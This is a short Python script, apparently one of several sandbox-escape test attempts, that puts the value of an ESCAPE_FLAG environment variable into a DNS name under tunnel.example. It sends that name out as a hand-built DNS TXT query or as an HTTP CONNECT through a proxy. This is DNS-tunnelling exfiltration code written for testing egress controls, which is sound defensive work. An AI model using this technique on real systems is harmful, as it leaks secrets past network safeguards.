"""Carry data out in names: `names.py udp PORT` asks a resolver, `names.py proxy` has names tunnelled."""

import os
import socket
import sys

from tests.escape.attempts.by_proxy import ask


def question(name: str) -> bytes:
    """RFC 1035, section 4: one question, for a TXT record."""
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return b"\x12\x34\x01\x00\x00\x01\0\0\0\0\0\0" + labels + b"\0\0\x10\0\x01"


def main(way: str, port: str) -> int:
    name = f"{os.environ['ESCAPE_FLAG']}.tunnel.example"
    if way == "proxy":
        answer = ask(f"CONNECT {name}:443 HTTP/1.1\r\nHost: {name}:443\r\n")
        print(answer[:200].decode(errors="replace"))
        return 0 if b" 200 " in answer.split(b"\r\n")[0] else 1
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.settimeout(2)
        line.sendto(question(name), ("127.0.0.1", int(port)))
        sys.stdout.buffer.write(line.recv(4096))
    return 0


if __name__ == "__main__":
    sys.exit(main(*sys.argv[1:]))
